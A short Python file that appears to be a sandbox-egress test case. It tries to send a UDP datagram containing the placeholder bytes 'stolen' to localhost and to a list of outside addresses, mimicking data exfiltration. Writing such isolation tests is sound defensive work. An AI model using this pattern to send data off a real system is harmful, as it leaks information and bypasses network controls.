"""Sends a datagram to a UDP socket outside."""

import socket


def f(world):
    for address in ("127.0.0.1", *world.addresses):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", (address, world.udp))
        except OSError:
            continue
